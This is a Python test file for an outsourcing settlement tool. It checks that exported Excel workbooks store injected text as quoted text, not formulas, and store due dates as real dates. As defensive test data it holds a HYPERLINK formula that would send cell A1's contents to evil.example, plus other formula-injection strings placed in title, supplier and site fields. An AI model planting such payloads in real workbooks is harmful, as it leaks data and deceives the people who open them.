"""Text written to any workbook is never a formula (公式注入防护), and 到期日 is a date.

Issue 25's reproduction: a title, supplier or site beginning with ``=`` (an injected
``HYPERLINK``) came back as formula cells in five places on the 汇总 and contract sheets.
"""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path
from typing import Any

import attrs
import pytest
from desk_cases import assessments, contract
from openpyxl import load_workbook

import outsourcing as o
from outsourcing.desk.xlsx_assess import assessment_template
from outsourcing.desk.xlsx_cells import FORMULA_PREFIXES
from outsourcing.desk.xlsx_contract import read_contract_terms, write_contract_workbook
from outsourcing.desk.xlsx_statement import SUMMARY_HEADERS, SUMMARY_SHEET, export_statements
from outsourcing.desk.xlsx_usage import usage_template

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _injected() -> o.Contract:
    c = contract()
    return attrs.evolve(
        c, title=LINK, supplier=attrs.evolve(c.supplier, name="+SUM(1,2)"),
        lines=[attrs.evolve(c.lines[0], site=LINK), attrs.evolve(c.lines[1], site="@cmd")])


def _cells(path: Path) -> list[Any]:
    wb = load_workbook(path)  # formulas kept as formulas: data_only=False
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(path: Path, *texts: str) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for t in texts:
        found = [c for c in cells if c.value == t]
        assert found, t
        assert all(c.data_type in ("s", "inlineStr") and c.quotePrefix for c in found)


def test_statement_workbook_writes_an_injected_title_supplier_and_site_as_text(
        registry: o.PluginHost, tmp_path: Path) -> None:
    s = o.settle(_injected(), o.Period.parse("2022-10"), assessments(),
                 registry.rulebook("NX"), accepted_on=date(2022, 11, 5))
    path = export_statements([s], tmp_path / "s.xlsx")
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith(
        FORMULA_PREFIXES)]
    assert len(quoted) >= 5
    assert all(c.quotePrefix for c in quoted)
    assert any(c.value == LINK for c in quoted)


def test_contract_workbook_writes_injected_text_as_text_and_reads_it_back(
        tmp_path: Path) -> None:
    c = _injected()
    path = write_contract_workbook(c, tmp_path / "c.xlsx")
    _assert_no_formula(path, LINK, "+SUM(1,2)", "@cmd")
    assert read_contract_terms(path).contract == c


def test_assessment_and_usage_workbooks_write_injected_text_as_text(
        registry: o.PluginHost, tmp_path: Path) -> None:
    c = _injected()
    a = assessment_template(c, "2022-10", registry.rulebook("NX"), tmp_path / "a.xlsx")
    assert [x.coordinate for x in _cells(a) if x.data_type == "f"] == []
    u = usage_template("-C1", LINK, o.Period.parse("2022-10"), [], tmp_path / "u.xlsx")
    _assert_no_formula(u, "-C1")


@pytest.mark.parametrize("first", list(FORMULA_PREFIXES))
def test_every_formula_prefix_is_quoted(tmp_path: Path, first: str) -> None:
    c = attrs.evolve(contract(), title=f"{first}1+1 物业服务")
    path = write_contract_workbook(c, tmp_path / "c.xlsx")
    cell = next(x for x in _cells(path) if x.value == c.title)
    assert cell.data_type != "f" and cell.quotePrefix


def test_control_characters_are_written_as_a_replacement_not_a_crash(
        registry: o.PluginHost, tmp_path: Path) -> None:
    s = o.settle(attrs.evolve(contract(), title="物业\x01服务"), o.Period.parse("2022-10"),
                 assessments(), registry.rulebook("NX"))
    path = export_statements([s], tmp_path / "s.xlsx")
    assert load_workbook(path)[SUMMARY_SHEET]["B2"].value == "物业\ufffd服务"


def test_the_due_date_is_an_excel_date(registry: o.PluginHost, tmp_path: Path) -> None:
    s = o.settle(contract(), o.Period.parse("2022-10"), assessments(),
                 registry.rulebook("NX"), accepted_on=date(2022, 11, 5))
    assert s.due_on is not None
    path = export_statements([s], tmp_path / "s.xlsx")
    wb = load_workbook(path)
    due = wb[SUMMARY_SHEET].cell(row=2, column=SUMMARY_HEADERS.index("到期日") + 1)
    assert due.data_type == "d" and due.value == datetime.combine(s.due_on, datetime.min.time())
    assert due.number_format == "yyyy-mm-dd"
    sheet = wb[wb.sheetnames[1]]
    row = next(r for r in sheet.iter_rows() if r[0].value == "付款到期日")
    assert row[1].data_type == "d" and row[1].value.date() == s.due_on
